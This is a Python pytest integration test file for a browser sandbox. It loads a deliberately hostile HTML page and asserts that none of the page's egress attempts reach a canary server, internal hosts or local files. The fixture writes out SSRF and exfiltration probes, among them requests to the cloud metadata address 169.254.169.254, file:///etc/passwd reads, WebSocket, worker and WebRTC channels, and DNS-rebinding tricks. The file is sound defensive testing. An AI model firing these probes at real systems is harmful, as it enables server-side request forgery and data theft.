"""Pages that try to get out: to loopback, to private addresses, to files, around the proxy. The canary hears nothing.

Each runs twice: with the kernel's wall (a network of its own), and without, where flags, proxy and guard stand alone.
"""

from __future__ import annotations

import re
import subprocess

import pytest

from shield.errors import EgressDenied
from tests.integration.sources.browser.conftest import Stage
from tests.peers.site import Site

pytestmark = pytest.mark.asyncio(loop_scope="session")

HOSTILE = """
<html><head>
<link rel="dns-prefetch" href="{canary}"><link rel="preconnect" href="{canary}"><link rel="prefetch" href="{canary}/prefetch">
<link rel="stylesheet" href="{canary}/style.css"><link rel="preload" as="script" href="{canary}/preload.js">
<style>@import url("{canary}/import.css"); @font-face {{ font-family: x; src: url("{canary}/font.woff2"); }} body {{ font-family: x; }}</style>
<script src="{canary}/script.js"></script>
</head><body><p>Honest words that every reader may read</p><div id="log"></div>
<img src="{canary}/image.png"><img src="http://169.254.169.254/latest/meta-data/"><video src="{canary}/video.mp4" autoplay></video>
<iframe src="{canary}/frame"></iframe><iframe src="file:///etc/passwd"></iframe><iframe srcdoc="<img src={canary}/inner>"></iframe>
<object data="{canary}/object"></object><embed src="{canary}/embed">
<form id="form" method="post" action="{canary}/form"><input name="a" value="b"></form>
<a id="download" href="{canary}/file.zip" download>x</a>
<script>
const canary = "{canary}", site = "{site}", place = canary.split("//")[1];
const say = text => log.append(text);
const attempt = (name, act) => {{ try {{ Promise.resolve(act()).then(() => say(name + ":through "), () => say(name + ":no ")); }} catch (error) {{ say(name + ":no "); }} }};
attempt("fetch", () => fetch(canary + "/fetch", {{mode: "no-cors"}}));
attempt("metadata", () => fetch("http://169.254.169.254/", {{mode: "no-cors"}}));
attempt("named", () => fetch("http://inside.test/", {{mode: "no-cors"}}));
attempt("hop", () => fetch(site + "/hop", {{mode: "no-cors"}}));
attempt("file", () => fetch("file:///etc/passwd"));
attempt("ftp", () => fetch("ftp://127.0.0.1/"));
attempt("own", () => new Promise((yes, no) => {{ const frame = document.createElement("iframe"); document.body.append(frame);
  frame.contentWindow.fetch(canary + "/own", {{mode: "no-cors"}}).then(yes, no); }}));
attempt("beacon", () => navigator.sendBeacon(canary + "/beacon", "x") ? Promise.reject() : Promise.reject());
attempt("socket", () => new Promise((yes, no) => {{ const s = new WebSocket("ws://" + place + "/ws"); s.onopen = yes; s.onerror = no; }}));
attempt("framed socket", () => new Promise((yes, no) => {{ const f = document.createElement("iframe"); document.body.append(f);
  const s = new f.contentWindow.WebSocket("ws://" + place + "/ws"); s.onopen = yes; s.onerror = no; }}));
attempt("stream", () => new Promise((yes, no) => {{ const s = new EventSource(canary + "/events"); s.onopen = yes; s.onerror = no; }}));
attempt("worker", () => new Promise((yes, no) => {{ const code = `
    fetch("${{canary}}/worker").then(() => postMessage(1), () => {{
      const s = new WebSocket("ws://${{place}}/ws"); s.onopen = () => postMessage(1); s.onerror = () => postMessage(0); }});`;
  const w = new Worker(URL.createObjectURL(new Blob([code]))); w.onmessage = m => m.data ? yes() : no(); w.onerror = no; }}));
attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
attempt("peer", async () => {{ const pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{udp}"}}]}});
  pc.createDataChannel("x"); await pc.setLocalDescription(await pc.createOffer()); }});
attempt("transport", () => new WebTransport("https://" + place + "/").ready);
attempt("window", () => {{ if (!window.open(canary + "/window")) throw 0; }});
download.click();
setTimeout(() => form.submit(), 50);
setTimeout(() => {{ location.href = canary + "/navigation"; }}, 100);
setTimeout(() => {{ location.href = "file:///etc/passwd"; }}, 150);
setTimeout(() => {{ location.href = "data:text/html,gone"; }}, 200);
</script></body></html>
"""


CLOSED = ("file", "ftp", "socket", "framed socket", "stream", "service worker", "peer", "transport", "window")
"""What is closed whatever the address; the other attempts end in the proxy's refusal, which a page may see."""


@pytest.fixture(params=["walled", "open"])
def hostile(request: pytest.FixtureRequest, stage: Stage, open_stage: Stage) -> Stage:
    """Both kinds of a stage."""
    return stage if request.param == "walled" else open_stage


async def test_nothing_that_a_page_tries_reaches_an_address_the_guard_refuses(hostile: Stage) -> None:
    hostile.site.redirect("/hop", f"{hostile.canary.url}/hopped")
    hostile.site.put("/sw.js", "", content_type="text/javascript")
    html = await hostile.show(HOSTILE.format(canary=hostile.canary.url, site=hostile.site.url, udp=hostile.knocks.getsockname()[1]))
    assert "Honest words that every reader may read" in html  # it is still that page
    attempts = dict(re.findall(r"([a-z ]+):(no|through) ", html))
    assert {attempts[name] for name in CLOSED} == {"no"}
    assert [visit.path for visit in hostile.canary.log] == []
    assert not hostile.alarmed()


async def test_the_kernel_walls_the_browser_in_wherever_it_can(stage: Stage, open_stage: Stage) -> None:
    ways = (["unshare", "--net", "true"], ["unshare", "--user", "--map-current-user", "--net", "true"])
    possible = any(subprocess.run(way, check=False, capture_output=True).returncode == 0 for way in ways)
    for where, isolated in ((stage, possible), (open_stage, False)):
        async with where.renderer._shared() as browser:
            assert browser.isolated is isolated


async def test_a_name_that_turns_to_another_address_meets_the_guard_again(open_stage: Stage) -> None:
    async with Site(port=open_stage.site.port, host="127.0.0.2") as inside:
        open_stage.site.put("/first", "one", Access_Control_Allow_Origin="*")
        base = f"http://turning.test:{open_stage.site.port}"
        html = await open_stage.show(
            f"<p id=log></p><script>fetch('{base}/first').then(() => log.append('first '))"
            f".then(() => fetch('{base}/second')).then(() => log.append('second'), () => log.append('refused'))</script>"
        )
        assert "first refused" in html
        assert open_stage.site.hits("/first") == 1
        assert inside.log == []


async def test_where_a_page_leads_the_guard_of_the_fetcher_stands(open_stage: Stage) -> None:
    for url in (f"{open_stage.canary.url}/", "http://inside.test/", "http://mixed.test/", "http://169.254.169.254/"):
        with pytest.raises(EgressDenied):
            await open_stage.show(f"<script>location.replace({url!r})</script>")
    assert not open_stage.alarmed()
